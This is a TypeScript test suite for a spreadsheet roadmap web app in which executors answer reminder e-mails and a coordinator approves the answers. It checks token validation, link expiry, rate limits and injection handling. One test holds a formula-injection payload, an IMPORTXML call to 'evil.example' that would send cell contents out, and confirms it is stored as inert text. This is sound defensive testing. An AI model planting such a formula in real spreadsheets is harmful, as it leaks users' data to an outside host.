import { say } from '../../../src/core/i18n';
import type { Host } from '../../../src/local/host';
import { remindedNumbers } from '../../e2e/fixtures/reminded';
import { DAY_MS, type Fixture, rowOf, sample, sheet } from '../reminders/harness';

/**
 * Issue 16: the executor answers from the e-mail, the coordinator decides in the sidebar. The
 * BUILT dist/Code.js in the offline host on the 2021 sample at 15.06.2021, deployed as a web app.
 */
const WEB_APP = 'https://script.google.com/macros/s/roadmap-local/exec';
const WORKING_GROUP = 'rabochaya-gruppa@example.org';

async function deployed(settings?: Record<string, unknown>): Promise<Fixture> {
  const f = await sample({ settings });
  f.host.webApp.url = WEB_APP;
  return f;
}

/** The href of the link named `label` in the last e-mail to `to` whose block mentions `number`. */
function linkFor(host: Host, to: string, label: string, number?: string): string {
  const mail = host.outbox.filter((m) => m.to.includes(to)).at(-1);
  if (!mail) throw new Error(`no e-mail to ${to}`);
  const html = mail.htmlBody ?? '';
  const blocks = number ? html.split('<div style="margin:0 0 12px 0').filter((b) => b.includes(`>${number} `)) : [html];
  const found = new RegExp(`<a href="([^"]+)"[^>]*>${label}</a>`).exec(blocks[0] ?? '');
  if (!found) throw new Error(`no link «${label}» for ${number ?? 'the digest'}`);
  return (found[1] as string).replace(/&amp;/g, '&');
}

const query = (url: string) => new URL(url).search.slice(1);
const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();

function answersRows(f: Fixture): string[][] {
  const answers = f.spreadsheet.getSheetByName('Ответы исполнителей');
  return answers
    ? answers
        ._rawValues()
        .slice(1)
        .filter((r) => r.some((c) => c !== ''))
        .map((r) => r.map(String))
    : [];
}

function cellsOf(f: Fixture): string[][] {
  return f.roadmap._rawValues().map((r) => r.map((c) => String(c)));
}

/** Sends today's reminders and submits «выполнено» for 2.2 from the working group's e-mail. */
function answerDone(f: Fixture, comment: string) {
  f.host.run('sendReminders', { includeAllOverdue: false, limit: 50 });
  const link = linkFor(f.host, WORKING_GROUP, 'Отметить выполненным', '2.2');
  const page = f.host.webRequest('GET', query(link));
  const params = new URLSearchParams(query(link));
  const posted = f.host.webRequest(
    'POST',
    '',
    form({ t: params.get('t') ?? '', m: params.get('m') ?? '', a: 'done', date: '2021-06-15', comment }),
  );
  return { link, page, posted, params };
}

describe('executors answer from the e-mail; the coordinator accepts in the sidebar', () => {
  it('turns 2.2 into «Выполнено с нарушением срока» only after «Принять», and stops reminding about it', async () => {
    const f = await deployed();
    const { page, posted } = answerDone(f, 'Протокол № 5 от 14.06.2021');
    expect(page.ok).toBe(true);
    expect(page.html).toContain('Разработка порядка согласования прохождения практик');
    expect(page.html).toMatch(/<details open>\s*<summary>Отметить выполненным/);
    expect(posted.html).toContain('Ответ передан координатору');

    const row = rowOf(f.roadmap, '2.2');
    const cell = (column: number) => f.roadmap.getRange(row, column).getDisplayValue();
    expect(cell(11)).toBe('Просрочено'); // nothing changes before the coordinator decides
    const before = cellsOf(f);

    const answers = f.host.run('getAnswers') as { pending: { id: string; number: string; comment: string }[] };
    expect(answers.pending.map((a) => [a.number, a.comment])).toEqual([['2.2', 'Протокол № 5 от 14.06.2021']]);
    f.host.run('decideAnswer', answers.pending[0]?.id, true, '');

    expect([cell(6), cell(7), cell(9), cell(11)]).toEqual([
      'Выполнено',
      '15.06.2021',
      'Протокол № 5 от 14.06.2021',
      'Выполнено с нарушением срока',
    ]);
    // Only Статус, Дата выполнения, Отметка and the computed cells of that row changed.
    const after = cellsOf(f);
    const changed: string[] = [];
    after.forEach((line, r) => {
      line.forEach((value, c) => {
        if (value !== (before[r]?.[c] ?? '')) changed.push(`${r + 1}:${c + 1}`);
      });
    });
    expect(changed.every((at) => at.startsWith(`${row}:`))).toBe(true);
    expect(changed.map((at) => Number(at.split(':')[1])).every((c) => [6, 7, 9, 10, 11, 12].includes(c))).toBe(true);
    expect(answersRows(f)[0]?.[7]).toBe('принят');
    // «Сводка» counts it as done.
    expect(JSON.stringify(sheet(f.spreadsheet, 'Сводка')._rawValues())).toContain('Выполнено с нарушением срока');

    f.host.clock.set(f.host.clock.now() + 7 * DAY_MS);
    const numbers = remindedNumbers(f.host.run('previewReminders', { includeAllOverdue: true }), WORKING_GROUP);
    expect(numbers).toContain('2.4');
    expect(numbers).not.toContain('2.2');
  });

  it('keeps the same answer sent twice as one request', async () => {
    const f = await deployed();
    const { params } = answerDone(f, 'готово');
    const again = f.host.webRequest(
      'POST',
      '',
      form({ t: params.get('t') ?? '', m: params.get('m') ?? '', a: 'done', date: '2021-06-15', comment: 'готово' }),
    );
    expect(again.html).toContain('Этот ответ уже получен');
    expect(answersRows(f)).toHaveLength(1);
  });

  it('keeps a comment that looks like a formula as plain text, in the requests and in «Отметка»', async () => {
    const f = await deployed();
    const evil = '=IMPORTXML("https://evil.example/?q="&A1;"//a")';
    answerDone(f, evil);
    expect(answersRows(f)[0]?.[6]).toBe(evil);
    const answers = f.host.run('getAnswers') as { pending: { id: string }[] };
    f.host.run('decideAnswer', answers.pending[0]?.id, true, '');
    const row = rowOf(f.roadmap, '2.2');
    expect(f.roadmap.getRange(row, 9).getValue()).toBe(evil);
    expect(f.roadmap.getRange(row, 9).getFormula()).toBe('');
    expect(sheet(f.spreadsheet, 'Ответы исполнителей').getRange(2, 7).getFormula()).toBe('');
  });

  it('refuses a tampered link and changes nothing', async () => {
    const f = await deployed();
    f.host.run('sendReminders', { includeAllOverdue: false, limit: 50 });
    const link = linkFor(f.host, WORKING_GROUP, 'Отметить выполненным', '2.2');
    const params = new URLSearchParams(query(link));
    const token = params.get('t') ?? '';
    const tampered = `${token.slice(0, 10)}${token[10] === 'A' ? 'B' : 'A'}${token.slice(11)}`;
    const page = f.host.webRequest('GET', form({ t: tampered }));
    expect(page.html).toContain('Ссылка недействительна или устарела');
    expect(page.html).not.toContain('2.2');
    const posted = f.host.webRequest(
      'POST',
      '',
      form({ t: tampered, m: params.get('m') ?? '', a: 'done', date: '2021-06-15' }),
    );
    expect(posted.html).toContain('Ссылка недействительна или устарела');
    expect(answersRows(f)).toEqual([]);
  });

  it('refuses another executor\u2019s measure with a valid link', async () => {
    const f = await deployed();
    f.host.run('sendReminders', { includeAllOverdue: false, limit: 50 });
    const working = new URLSearchParams(query(linkFor(f.host, WORKING_GROUP, 'Отметить выполненным', '2.2')));
    const poo = new URLSearchParams(
      query(linkFor(f.host, 'rukovoditeli-poo@example.org', 'Отметить выполненным', '2.1')),
    );
    const posted = f.host.webRequest(
      'POST',
      '',
      form({ t: working.get('t') ?? '', m: poo.get('m') ?? '', a: 'done', date: '2021-06-15' }),
    );
    expect(posted.html).toContain('нельзя отметить по вашей ссылке');
    expect(answersRows(f)).toEqual([]);
  });

  it('refuses every link after «Отозвать все ссылки», and links past their 60 days', async () => {
    const f = await deployed();
    f.host.run('sendReminders', { includeAllOverdue: false, limit: 50 });
    const link = linkFor(f.host, WORKING_GROUP, 'Все мои мероприятия');
    expect(f.host.webRequest('GET', query(link)).html).toContain('2.4');
    f.host.clock.set(f.host.clock.now() + 61 * DAY_MS);
    expect(f.host.webRequest('GET', query(link)).html).toContain('Ссылка недействительна или устарела');
    f.host.clock.set(f.host.clock.now() - 61 * DAY_MS);
    expect(f.host.webRequest('GET', query(link)).html).not.toContain('Ссылка недействительна');
    f.host.run('revokeAnswerLinks');
    expect(f.host.webRequest('GET', query(link)).html).toContain('Ссылка недействительна или устарела');
  });

  it('limits answers per link per hour', async () => {
    const f = await deployed();
    const { params } = answerDone(f, 'первый');
    let last = '';
    for (let i = 0; i < 10; i++)
      last = f.host.webRequest(
        'POST',
        '',
        form({
          t: params.get('t') ?? '',
          m: params.get('m') ?? '',
          a: 'done',
          date: '2021-06-15',
          comment: `ответ ${i}`,
        }),
      ).html;
    expect(last).toContain('Слишком много ответов');
    expect(answersRows(f)).toHaveLength(10);
  });

  it('accepts «выполнено» at once when the coordinator turned automatic acceptance on', async () => {
    const f = await deployed({ answersAutoAccept: true });
    const { posted } = answerDone(f, '');
    expect(posted.html).toContain('внесена в дорожную карту');
    const row = rowOf(f.roadmap, '2.2');
    expect(f.roadmap.getRange(row, 11).getDisplayValue()).toBe('Выполнено с нарушением срока');
    expect(answersRows(f)[0]?.[7]).toBe('принят');
    expect(answersRows(f)[0]?.[8]).toBe('автоматически');
  });

  it('writes an accepted new deadline into «Новый срок» and keeps the old one in the request', async () => {
    const f = await deployed();
    f.host.run('sendReminders', { includeAllOverdue: false, limit: 50 });
    const params = new URLSearchParams(query(linkFor(f.host, WORKING_GROUP, 'Попросить перенести срок', '2.4')));
    const posted = f.host.webRequest(
      'POST',
      '',
      form({
        t: params.get('t') ?? '',
        m: params.get('m') ?? '',
        a: 'postpone',
        date: '2021-07-30',
        comment: 'ждём предприятия',
      }),
    );
    expect(posted.html).toContain('Ответ передан координатору');
    const answers = f.host.run('getAnswers') as { pending: { id: string }[] };
    f.host.run('decideAnswer', answers.pending[0]?.id, true, '');
    const row = rowOf(f.roadmap, '2.4');
    expect(f.roadmap.getRange(row, 8).getDisplayValue()).toBe('30.07.2021');
    expect(f.roadmap.getRange(row, 11).getDisplayValue()).toBe('Не начато');
    expect(answersRows(f)[0]?.[11]).toBe('май 2021г.');
  });

  it('rejects with a note e-mailed to the executor, and the plan stays as it was', async () => {
    const f = await deployed();
    answerDone(f, 'сделали');
    const before = cellsOf(f);
    const answers = f.host.run('getAnswers') as { pending: { id: string }[] };
    f.host.run('decideAnswer', answers.pending[0]?.id, false, 'Нет протокола <b>совета</b>');
    expect(cellsOf(f)).toEqual(before);
    expect(answersRows(f)[0]?.[7]).toBe('отклонён');
    const note = f.host.outbox.at(-1);
    expect(note?.to).toEqual([WORKING_GROUP]);
    expect(note?.body).toContain('Нет протокола <b>совета</b>');
    expect(note?.htmlBody ?? '').toBe('');
  });

  it('refuses the sidebar\u2019s decisions from the web app, where there is no active spreadsheet', async () => {
    const f = await deployed();
    answerDone(f, 'x');
    const result = f.host.execute(
      'decideAnswer',
      { kind: 'web-app', authMode: 'FULL', user: f.host.webApp.deployer, activeUser: '' },
      ['any', true, ''],
    );
    expect(result.ok).toBe(false);
    expect(result.error?.message).toBe(say({ code: 'no-spreadsheet' }));
    expect(answersRows(f)[0]?.[7]).toBe('новый');
  });

  it('tells the coordinator, by the table’s sentence, that an answer was decided already', async () => {
    const f = await deployed();
    answerDone(f, 'готово');
    const { pending } = f.host.run('getAnswers') as { pending: { id: string; number: string }[] };
    const id = pending[0]?.id;
    const first = f.host.run('decideAnswer', id, false, 'Нужен протокол') as { notice: string };
    expect(first.notice).toBe(say({ code: 'answer-decided', heading: pending[0]?.number ?? '', accepted: false }));
    expect(f.host.outbox.at(-1)?.subject).toBe('Дорожная карта: ваш ответ отклонён');
    const again = f.host.run('decideAnswer', id, true, '') as { notice: string };
    expect(again.notice).toBe(say({ code: 'answer-already-decided' }));
    expect(answersRows(f)[0]?.[7]).toBe('отклонён');
  });
});
